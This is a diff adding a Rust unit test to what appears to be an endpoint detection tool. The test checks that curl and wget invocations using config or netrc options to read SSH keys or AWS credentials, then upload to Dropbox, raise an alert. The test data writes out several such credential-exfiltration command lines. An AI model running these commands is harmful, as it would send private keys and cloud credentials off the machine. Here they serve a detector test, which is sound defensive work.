@@ -847,3 +847,38 @@ fn calls_that_do_not_say_whom_they_let_in() {
         assert_eq!(told.low().rules[0].techniques[0].as_ref(), "T1537", "{line}");
     }
 }
+
+/// What a configuration of the tool's own names no command line says; the tool opens it. A file that is meant to be the
+/// configuration, and is a key, is opened just so.
+#[test]
+fn files_that_a_configuration_names_are_told_by_their_open() {
+    let key = "/Users/alice/.ssh/id_rsa";
+    for (line, opened) in [
+        ("curl -K /private/tmp/c https://content.dropboxapi.com/2/files/upload", key),
+        ("curl -K /Users/alice/.ssh/id_rsa https://content.dropboxapi.com/2/files/upload", key),
+        (
+            "curl --netrc-file /Users/alice/.aws/credentials -T x https://content.dropboxapi.com/",
+            "/Users/alice/.aws/credentials",
+        ),
+        ("curl --netrc-file /Users/alice/.netrc -K /private/tmp/c https://content.dropboxapi.com/", key),
+        ("wget --config=/private/tmp/c https://content.dropboxapi.com/", key),
+        ("wget --config=/Users/alice/.ssh/id_rsa https://content.dropboxapi.com/", key),
+        ("wget --config /Users/alice/.ssh/id_rsa https://content.dropboxapi.com/", key),
+    ] {
+        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
+        let story = |opens: bool, bytes: usize| {
+            let mut w = World::new();
+            let shell = w.launch(0.0, ZSH, &["-zsh"]);
+            let curl = w.spawn(1.0, &shell, tool(words[0]), &words);
+            if opens {
+                w.open(1.1, &curl, opened);
+            }
+            w.upload(1.2, &curl, "content.dropboxapi.com", bytes);
+            w.tell()
+        };
+        let told = story(true, 30_000);
+        assert_eq!(told.alerts().len(), 1, "{line}");
+        assert_eq!(told.alert().reads[0].evidence.as_str(), "open", "{line}");
+        assert_eq!(story(false, 30_000).alerts().len(), 0, "{line}: it is the tool's own");
+    }
+}
